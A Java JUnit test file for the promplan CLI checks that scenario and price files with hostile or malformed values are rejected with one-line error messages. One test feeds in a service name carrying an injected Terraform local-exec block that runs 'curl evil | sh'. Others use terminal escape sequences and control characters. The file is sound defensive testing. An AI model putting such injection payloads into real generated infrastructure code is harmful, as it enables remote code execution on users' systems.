package io.promplan.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.promplan.TestSupport;
import io.promplan.io.InputFileException;
import io.promplan.io.Texts;
import io.promplan.pricing.PriceSnapshots;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.AccessDeniedException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issue 16: hostile and careless input is refused at the door, once, the same way by every command, with one line
 * naming the file, the line, the field and what is allowed (findings 1, 4, 5, 7, 9 and 10).
 */
class HostileInputTest {
    @TempDir
    Path dir;

    /** The seed's name as its file writes it: one text per language. */
    static final String SEED_NAME = "name: { en: \"Seed plan: 5 services (as written)\", ko: \"원안: 서비스 5개 (작성된 그대로)\" }";

    static String seed() {
        try {
            return Files.readString(Path.of("scenarios/seed-5-services.yaml"));
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private Path write(String name, String text) throws IOException {
        Path f = dir.resolve(name);
        Files.writeString(f, text, StandardCharsets.UTF_8);
        return f;
    }

    /** The file through every command that reads a scenario. */
    private Map<String, TestSupport.Run> everyCommand(Path scenario) {
        String s = scenario.toString();
        Map<String, TestSupport.Run> runs = new LinkedHashMap<>();
        runs.put("plan", TestSupport.cli("plan", s, "--prices", "pricing-data"));
        runs.put("compare", TestSupport.cli("compare", s, "--prices", "pricing-data"));
        runs.put("sweep", TestSupport.cli("sweep", s, "--prices", "pricing-data", "--services", "1..30"));
        runs.put("simulate", TestSupport.cli("simulate", s, "--prices", "pricing-data", "--runs", "2000"));
        runs.put("report", TestSupport.cli("report", s, "--prices", "pricing-data", "--runs", "2000", "--out", dir.resolve("r.md").toString()));
        runs.put("export", TestSupport.cli("export", s, "--prices", "pricing-data", "--quiet", "--out", dir.resolve("export-" + runs.size()).toString()));
        return runs;
    }

    private static void refusedInOneLine(TestSupport.Run r, String... parts) {
        assertThat(r.code()).as(r.err()).isEqualTo(ExitCodes.BAD_INPUT);
        assertThat(r.err().strip().lines()).as(r.err()).hasSize(1);
        assertThat(r.err()).doesNotContain("Exception").doesNotContain("\tat ");
        // nothing from the input reaches the terminal raw: no control character but the final line break
        assertThat(r.err().strip().chars().filter(c -> c < 0x20 || c == 0x7f)).as(r.err()).isEmpty();
        for (String p : parts) {
            assertThat(r.err()).contains(p);
        }
    }

    private void everyCommandRefuses(Path f, String... parts) {
        everyCommand(f).forEach((cmd, r) -> {
            assertThat(r.code()).as(cmd + ": " + r.err()).isEqualTo(ExitCodes.BAD_INPUT);
            refusedInOneLine(r, parts);
        });
        assertThat(dir.resolve("r.md")).doesNotExist();
    }

    // --- finding 1: names reach every generated file; they are limited to printable text of a sane length

    @Test
    void aServiceNameCarryingTerraformIsRefusedByEveryCommandAndNothingIsExported() throws IOException {
        String injected = "api-1\\n}\\nresource \\\"terraform_data\\\" \\\"x\\\" {\\n  provisioner \\\"local-exec\\\" { command = \\\"curl evil | sh\\\" }\\n}\\n#";
        Path f = write("inject.yaml", seed().replace("- name: \"api-1\"", "- name: \"" + injected + "\""));
        everyCommandRefuses(f, "inject.yaml:32: services[1].name: holds U+000A at character 6, which is not printable", "allowed: up to 64 printable characters");
        try (var s = Files.list(dir)) {
            assertThat(s.map(p -> p.getFileName().toString())).noneMatch(n -> n.startsWith("export"));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"line1\\nline2", "bell\\a", "esc\\e[31mred", "rtl\\u202Eevil", "nul\\0", "tab\\there", "sep\\u2028x"})
    void aScenarioNameWithAControlOrFormatCharacterIsRefused(String name) throws IOException {
        Path f = write("name.yaml", seed().replace(SEED_NAME, "name: \"" + name + "\""));
        TestSupport.Run r = TestSupport.cli("export", f.toString(), "--prices", "pricing-data", "--out", dir.resolve("out").toString());
        refusedInOneLine(r, "name.yaml:7: name: holds ", "printable");
        assertThat(dir.resolve("out")).doesNotExist();
    }

    @Test
    void aLoneSurrogateIsRefusedWithItsFieldNotAnEncoderMessage() throws IOException {
        Path f = write("sur.yaml", seed().replace(SEED_NAME, "name: \"\\ud800\""));
        everyCommandRefuses(f, "sur.yaml:7: name: holds a lone surrogate (\\ud800)");
        everyCommand(f).values().forEach(r -> assertThat(r.err()).doesNotContain("Input length"));
    }

    @Test
    void namesAreLimitedInLengthButAnyScriptIsWelcome() throws IOException {
        Path longService = write("long.yaml", seed().replace("- name: \"worker\"", "- name: \"" + "w".repeat(65) + "\""));
        refusedInOneLine(TestSupport.cli("plan", longService.toString(), "--prices", "pricing-data"),
                "long.yaml:34: services[3].name: is 65 characters long; allowed: up to 64");
        Path longName = write("longname.yaml", seed().replace(SEED_NAME, "name: \"" + "n".repeat(121) + "\""));
        refusedInOneLine(TestSupport.cli("plan", longName.toString(), "--prices", "pricing-data"), "name: is 121 characters long; allowed: up to 120");

        Path hangul = write("ko.yaml", seed().replace(SEED_NAME, "name: \"모니터링 계획 (5개 서비스) 🚀\"")
                .replace("- name: \"worker\"", "- name: \"작업자\""));
        TestSupport.Run ok = TestSupport.cli("plan", hangul.toString(), "--prices", "pricing-data");
        assertThat(ok.code()).as(ok.err()).isZero();
        assertThat(ok.out()).contains("모니터링 계획");
    }

    @Test
    void cloudWatchNamesThatGoIntoTheExporterConfigAreChecked() throws IOException {
        Path f = write("cw.yaml", seed().replace("namespace: \"AWS/ECS\"", "namespace: \"AWS/ECS\\n- aws_namespace: evil\""));
        refusedInOneLine(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data"), "cloudwatchExporter.metrics[0].namespace:", "not allowed; allowed: 1 to 255 of");
    }

    // --- finding 4/5: inputs read through a limit, special files refused without blocking, the YAML reader limited

    @Test
    @Timeout(value = 20, unit = TimeUnit.SECONDS)
    void aScenarioAboveTheSizeLimitIsRefusedByItsSize() throws IOException {
        Path f = write("huge.yaml", seed() + "#" + "x".repeat(3 * 1024 * 1024) + "\n");
        refusedInOneLine(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data"), "huge.yaml: is ", "allowed: up to 2 MiB");
    }

    @Test
    @Timeout(value = 20, unit = TimeUnit.SECONDS)
    void specialFilesAreRefusedWithoutBeingRead() throws Exception {
        Path zero = dir.resolve("zero.yaml");
        Files.createSymbolicLink(zero, Path.of("/dev/zero"));
        refusedInOneLine(TestSupport.cli("plan", zero.toString(), "--prices", "pricing-data"), "zero.yaml: is not a regular file (a device, pipe or socket)");
        Path folder = Files.createDirectory(dir.resolve("folder.yaml"));
        refusedInOneLine(TestSupport.cli("plan", folder.toString(), "--prices", "pricing-data"), "folder.yaml: is a folder");
        Path urandomPrices = dir.resolve("prices-2026-12-01.json");
        Files.createSymbolicLink(urandomPrices, Path.of("/dev/urandom"));
        refusedInOneLine(TestSupport.cli("prices", "show", "--prices", urandomPrices.toString()), "is not a regular file");

        Path fifo = dir.resolve("fifo.yaml");
        Process p = new ProcessBuilder("mkfifo", fifo.toString()).start();
        assumeTrue(p.waitFor(5, TimeUnit.SECONDS) && p.exitValue() == 0, "mkfifo is not available");
        refusedInOneLine(TestSupport.cli("plan", fifo.toString(), "--prices", "pricing-data"), "fifo.yaml: is not a regular file");
    }

    @Test
    @Timeout(value = 30, unit = TimeUnit.SECONDS)
    void aLongScalarFailsFast() throws IOException {
        long t0 = System.nanoTime();
        Path f = write("scalar.yaml", seed().replace(SEED_NAME, "name: \"" + "a".repeat(1_900_000) + "\""));
        refusedInOneLine(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data"), "scalar.yaml:");
        assertThat((System.nanoTime() - t0) / 1e9).isLessThan(10);
    }

    @Test
    void aliasesAndSecondDocumentsAreRefused() throws IOException {
        Path alias = write("alias.yaml", seed().replace("- name: \"atlantis\"", "- name: &svc \"atlantis\"").replace("- name: \"worker\"", "- name: *svc"));
        refusedInOneLine(TestSupport.cli("plan", alias.toString(), "--prices", "pricing-data"), "alias.yaml:34: services[3].name: is an alias (*svc)");
        Path two = write("two.yaml", seed() + "---\nversion: 1\nname: other\n");
        refusedInOneLine(TestSupport.cli("plan", two.toString(), "--prices", "pricing-data"), "two.yaml:", "holds a second YAML document");
        Path deep = write("deep.yaml", seed() + "description: " + "[".repeat(200) + "]".repeat(200) + "\n");
        refusedInOneLine(TestSupport.cli("plan", deep.toString(), "--prices", "pricing-data"), "deep.yaml:");
    }

    private Path snapshotWith(String from, String to) throws IOException {
        Path prices = Files.createDirectories(dir.resolve("prices"));
        String text = Files.readString(Path.of("pricing-data/prices-2026-11-26.json"));
        assertThat(text).contains(from);
        Files.writeString(prices.resolve("prices-2026-11-26.json"), text.replaceFirst(java.util.regex.Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to)));
        return prices;
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"1e-999999999\"", "\"1e308\"", "1e-999999999", "1E+400", "\"0.0000000000000000000001\""})
    void anExtremeDecimalIsRefusedWithItsField(String usd) throws IOException {
        Path prices = snapshotWith("\"usd\": \"0.04048\"", "\"usd\": " + usd);
        for (TestSupport.Run r : List.of(TestSupport.cli("plan", "scenarios/seed-5-services.yaml", "--prices", prices.toString()),
                TestSupport.cli("prices", "show", "--prices", prices.toString()),
                TestSupport.cli("prices", "show", "--format", "json", "--prices", prices.toString()))) {
            refusedInOneLine(r, "prices-2026-11-26.json:", "regions.us-east-1.fargate.vcpu.x86.tiers[0].usd:", "is out of range; allowed: a decimal below 10^15");
            assertThat(r.out()).isEmpty();
        }
    }

    @Test
    void aDuplicateKeyOrTrailingContentInASnapshotIsRefused() throws IOException {
        Path dup = snapshotWith("\"usd\": \"0.04048\"", "\"usd\": \"99\", \"usd\": \"0.04048\"");
        refusedInOneLine(TestSupport.cli("plan", "scenarios/seed-5-services.yaml", "--prices", dup.toString()), "prices-2026-11-26.json:", "Duplicate field 'usd'");

        Path trailing = Files.createDirectories(dir.resolve("trailing"));
        Files.writeString(trailing.resolve("prices-2026-11-26.json"), Files.readString(Path.of("pricing-data/prices-2026-11-26.json")) + "{\"format\": \"x\"}\n");
        refusedInOneLine(TestSupport.cli("plan", "scenarios/seed-5-services.yaml", "--prices", trailing.toString()), "prices-2026-11-26.json:", "more content after the JSON value");
    }

    @Test
    void aSnapshotNameWithAnImpossibleDateIsNotTakenAsTheNewest() throws Exception {
        Path prices = Files.createDirectories(dir.resolve("dates"));
        Files.copy(Path.of("pricing-data/prices-2026-11-26.json"), prices.resolve("prices-2026-11-26.json"));
        Files.writeString(prices.resolve("prices-2026-13-45.json"), "not even JSON");
        Files.writeString(prices.resolve("prices-2026-11-30T256199Z.json"), "not even JSON");
        assertThat(PriceSnapshots.list(prices)).extracting(p -> p.getFileName().toString()).containsExactly("prices-2026-11-26.json");
        assertThat(TestSupport.cli("plan", "scenarios/seed-5-services.yaml", "--prices", prices.toString()).code()).isZero();
    }

    // --- finding 7 (one validation, before any scaling) and 9 (accepted with a wrong meaning)

    @Test
    void aFileValidForPlanIsValidForEveryCommand() throws IOException {
        // 31 h a week on 5 services: report and sweep scale it to 50 services (310 h) and used to refuse the file
        Path f = write("roi.yaml", seed().replace("hoursSavedPerWeek: 7", "hoursSavedPerWeek: 31"));
        assertThat(seed()).contains("hoursSavedPerWeek: 7");
        everyCommand(f).forEach((cmd, r) -> assertThat(r.code()).as(cmd + ": " + r.err()).isZero());
    }

    @Test
    void anUncertaintyBoundOutsideWhatTheFieldAllowsIsRefusedByTheReader() throws IOException {
        Path huge = write("u.yaml", seed().replace("seriesPerMetric: { low: 1, likely: 1, high: 30 }", "seriesPerMetric: { low: 1, likely: 1, high: 1e308 }"));
        everyCommandRefuses(huge, "u.yaml:257: uncertainty.seriesPerMetric.high: '1.0E308' is out of range");
        Path above = write("u2.yaml", seed().replace("seriesPerMetric: { low: 1, likely: 1, high: 30 }", "seriesPerMetric: { low: 1, likely: 1, high: 2000000 }"));
        everyCommandRefuses(above, "u2.yaml:257: uncertainty.seriesPerMetric.high: high 2000000 is not a value seriesPerMetric may take", "allowed: above 0 up to 1000000");
        Path hours = write("u3.yaml", seed().replace("roi.hoursSavedPerWeek: { low: 5, likely: 7, high: 10 }", "roi.hoursSavedPerWeek: { low: 5, likely: 7, high: 500 }"));
        everyCommandRefuses(hours, "uncertainty.roi.hoursSavedPerWeek.high: high 500 is not a value", "allowed: 0 to 168");
    }

    @Test
    void anOverflowingRetentionIsRefusedNotWrappedAround() throws IOException {
        Path f = write("ret.yaml", seed().replace("retention: 15d", "retention: 53302877781480939y"));
        everyCommandRefuses(f, "ret.yaml:39: retention: '53302877781480939y' is too large a duration");
        Path g = write("ret2.yaml", seed().replace("retention: 15d", "retention: 99999999999999999999999d"));
        refusedInOneLine(TestSupport.cli("plan", g.toString(), "--prices", "pricing-data"), "retention: '99999999999999999999999d' is too large a duration");
    }

    @Test
    void aBareServiceNameIsRefusedWithTheFormToWrite() throws IOException {
        Path f = write("bare.yaml", seed().replace("- name: \"worker\"", "- worker"));
        everyCommandRefuses(f, "bare.yaml:34: services[3]: is the bare text 'worker'; write each service as a mapping: '- name: worker'");
        Path empty = write("empty.yaml", seed().replace("- name: \"worker\"", "-"));
        refusedInOneLine(TestSupport.cli("plan", empty.toString(), "--prices", "pricing-data"), "services[3]: is an empty entry");
    }

    @ParameterizedTest
    @ValueSource(strings = {"  lowUsd: -5\n", "  lowUsd: 1e308\n", "  highUsd: 2e9\n", "  claimedGiBPerDay: -1\n"})
    void aNegativeOrHugeBaselineFigureIsRefused(String line) throws IOException {
        String text = seed();
        int at = text.indexOf("\nbaseline:\n") + "\nbaseline:\n".length();
        assertThat(at).isGreaterThan(20);
        String key = line.strip().substring(0, line.strip().indexOf(':'));
        String cleaned = text.substring(at).replaceFirst("(?m)^  " + key + ":.*\\n", "");
        Path f = write("base.yaml", text.substring(0, at) + line + cleaned);
        refusedInOneLine(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data"), "base.yaml:", "baseline." + key + ":");
    }

    @ParameterizedTest
    @ValueSource(strings = {"histogramBuckets: -3", "histogramBuckets: 0", "metrics: -1", "targets: 0", "histogramShare: -0.5", "seriesPerMetric: 0"})
    void aServiceFigureWrittenOutMustBeARealValue(String figure) throws IOException {
        Path f = write("svc.yaml", seed().replace("- name: \"worker\"", "- name: \"worker\"\n    " + figure));
        String key = figure.substring(0, figure.indexOf(':'));
        everyCommandRefuses(f, "svc.yaml:35: services[3]." + key + ": is ", "(or leave it out to use ");
    }

    @Test
    void noCommandPrintsInfinityOrNaN() throws IOException {
        // zero rates and hours: ROI has no finite value; the outputs must say so in words
        Path f = write("zero.yaml", seed().replace("hourlyRateLow: 15", "hourlyRateLow: 0").replace("hourlyRateHigh: 20", "hourlyRateHigh: 0")
                .replace("hoursSavedPerWeek: 7", "hoursSavedPerWeek: 0"));
        List<TestSupport.Run> runs = new ArrayList<>(everyCommand(f).values());
        runs.add(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data", "--format", "json"));
        runs.add(TestSupport.cli("simulate", f.toString(), "--prices", "pricing-data", "--runs", "2000", "--format", "json"));
        for (TestSupport.Run r : runs) {
            assertThat(r.code()).as(r.err()).isZero();
            assertThat(r.out()).doesNotContain("Infinity").doesNotContain("NaN");
        }
        assertThat(Files.readString(dir.resolve("r.md"))).doesNotContain("Infinity").doesNotContain("NaN");
    }

    // --- finding 10: messages

    @Test
    void controlCharactersFromTheInputAreEscapedInMessages() throws IOException {
        Path f = write("ctl.yaml", seed().replace("serviceCount: 5", "serviceCount: 5\n\"evil\\e]0;owned\\a\": 1"));
        refusedInOneLine(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data"), "evil\\u001b]0;owned\\u0007: unknown key");
        TestSupport.Run region = TestSupport.cli("plan", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--region", "us-east-1\u001b[2J");
        refusedInOneLine(region, "--region", "\\u001b[2J");
    }

    @Test
    void aListWhereANumberBelongsIsNamedAsAList() throws IOException {
        Path f = write("list.yaml", seed().replace("seriesPerMetric: 1\n", "seriesPerMetric: [1, 2]\n"));
        refusedInOneLine(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data"), "seriesPerMetric: is a list, not a number");
        assertThat(TestSupport.cli("plan", f.toString(), "--prices", "pricing-data").err()).doesNotContain("''");
    }

    @Test
    void unreadableFilesAndFailedWritesNameTheCause() throws IOException {
        assertThat(Texts.reason(new AccessDeniedException("/x"))).isEqualTo("permission denied");
        Path notAFolder = write("file.txt", "x");
        TestSupport.Run w = TestSupport.cli("report", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--runs", "1000",
                "--out", notAFolder.resolve("r.md").toString());
        assertThat(w.code()).isEqualTo(ExitCodes.FAILURE);
        assertThat(w.err()).contains("file.txt").contains("is a file, not a folder");
        assertThat(w.err().strip().lines()).hasSize(1);

        Path locked = write("locked.yaml", seed());
        locked.toFile().setReadable(false, false);
        assumeTrue(!Files.isReadable(locked), "running as root: permissions are not enforced");
        refusedInOneLine(TestSupport.cli("plan", locked.toString(), "--prices", "pricing-data"), "locked.yaml: cannot be read: permission denied");
    }

    @Test
    void optionValuesOutOfRangeNameTheOption() {
        refusedInOneLine(TestSupport.cli("report", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--out", dir.resolve("x.md").toString(),
                "--migration-hours", "1e308"), "--migration-hours: ", "allowed: 0 to 100000 hours");
        refusedInOneLine(TestSupport.cli("compare", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--migration-hours", "NaN"),
                "--migration-hours: NaN");
        refusedInOneLine(TestSupport.cli("compare", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--growth", "+100000/q"),
                "--growth: '+100000/q' reaches 4000005 services; allowed: up to 10000");
        refusedInOneLine(TestSupport.cli("compare", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--growth", "+2147483647/q"),
                "--growth: '+2147483647/q'");
        refusedInOneLine(TestSupport.cli("sweep", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--input", "serviceCount", "--range", "1..5000"),
                "1 <= FROM <= TO <= 1000");
        refusedInOneLine(TestSupport.cli("simulate", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--runs", "5000", "--exact"),
                "--runs with --exact: 5000 draws");
        refusedInOneLine(TestSupport.cli("sweep", "scenarios/seed-5-services.yaml", "--prices", "pricing-data", "--input", "seriesPerMetric", "--range", "1..1e999"),
                "--range: '1e999' is not allowed");
    }

    @Test
    void aRefusedFileLeavesAMessageEvenWithoutALine() {
        InputFileException e = new InputFileException("a\nb.yaml", 0, "", "no such file");
        assertThat(e.getMessage()).isEqualTo("a\\nb.yaml: no such file");
    }
}
